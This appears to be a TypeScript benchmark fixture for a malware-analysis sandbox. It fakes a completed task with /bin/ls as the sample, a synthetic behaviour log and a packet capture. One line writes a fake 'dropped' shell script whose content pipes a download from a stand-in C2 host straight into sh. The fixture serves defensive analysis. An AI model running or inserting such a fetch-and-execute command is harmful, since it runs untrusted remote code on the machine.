import { copyFileSync, createWriteStream, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { AppContext } from '../../src/app.js';
import { sha256File } from '../../src/processing/fileinfo.js';
import type { BehaviorEvent, EventBody } from '../../src/report/events.js';
import type { AnalysisPaths } from '../../src/storage/layout.js';
import { ethernetTcpPcap, TCP_SYN } from '../../test/helpers/pcap-file.js';

// A completed task as a machine would leave it, with a synthetic behaviour log of any size, for the
// benches that process one (processing.ts) or read what processing made of it (calls-page.ts).

/** A completed task with raw results: /bin/ls as the sample, a capture, a behaviour log of `events` events. */
export async function prepareTask(ctx: AppContext, events: number): Promise<{ id: number; paths: AnalysisPaths }> {
  const sha256 = await sha256File('/bin/ls');
  copyFileSync('/bin/ls', ctx.layout.binary(sha256));
  const sampleId = await ctx.stores.samples.upsert({ file_size: 0, file_type: '', md5: '', crc32: '', sha1: '', sha256, sha512: '', ssdeep: null });
  const now = new Date().toISOString();
  const id = await ctx.stores.tasks.insert({
    target: '/tmp/ls', category: 'file', timeout: 60, priority: 1, custom: '', owner: '', machine: '', package: '', platform: 'linux',
    tags: '[]', options: '', memory: 0, enforce_timeout: 0, clock: now, added_on: now, started_on: now, completed_on: now,
    status: 'completed', sample_id: sampleId, submit_id: null, processing: null, route: 'none', reboot_of: null,
  });
  const paths = ctx.layout.analysis(id);
  paths.create();
  symlinkSync(ctx.layout.binary(sha256), paths.binary);
  writeFileSync(paths.pcap, syntheticCapture());
  await writeEvents(join(paths.logs, 'events.jsonl'), events);
  writeFileSync(join(paths.files, '0123456789abcdef_dropped.sh'), '#!/bin/sh\ncurl http://c2.example.test/x | sh\n');
  return { id, paths };
}

async function writeEvents(path: string, count: number): Promise<void> {
  const out = createWriteStream(path);
  for (let start = 0; start < count; start += 10000) {
    const lines: string[] = [];
    for (let i = start; i < Math.min(count, start + 10000); i++) {
      const pid = 1000 + (i % 20);
      const body: EventBody =
        i < 20 ? { kind: 'process.exec', path: `/usr/bin/worker${pid}`, argv: [`worker${pid}`], ret: 0 }
        : i % 4 === 0 ? { kind: 'file.open', path: `/data/file-${i}.txt`, flags: 0o101, mode: 0o644, ret: 3 }
        : i % 4 === 1 ? { kind: 'file.write', path: `/data/file-${i - 1}.txt`, bytes: 512 }
        : i % 4 === 2 ? { kind: 'net.connect', fd: 3, family: 'inet', address: `198.51.100.${i % 200}`, port: 443, ret: -115 }
        : { kind: 'memory.exec_map', call: 'mmap', address: `0x7f${(i % 5000).toString(16)}000`, length: 4096, prot: 5 };
      lines.push(JSON.stringify({ ts: 1_700_000_000 + i / 1000, pid, ppid: 1, tid: pid, comm: `worker${pid}`, ...body } as BehaviorEvent));
    }
    if (!out.write(lines.join('\n') + '\n')) await new Promise<void>((resolve) => out.once('drain', () => resolve()));
  }
  await new Promise((resolve) => out.end(resolve));
}

/** A capture with one HTTP request from the machine: enough for the network modules to work. */
function syntheticCapture(): Buffer {
  const http = 'GET /x HTTP/1.1\r\nHost: c2.example.test\r\nUser-Agent: bench\r\n\r\n';
  const connection = { src: '10.200.0.2', sport: 40000, dst: '192.0.2.10', dport: 80 };
  return ethernetTcpPcap([
    { ...connection, flags: TCP_SYN, seq: 1000 },
    { ...connection, seq: 1001, payload: http },
  ]);
}
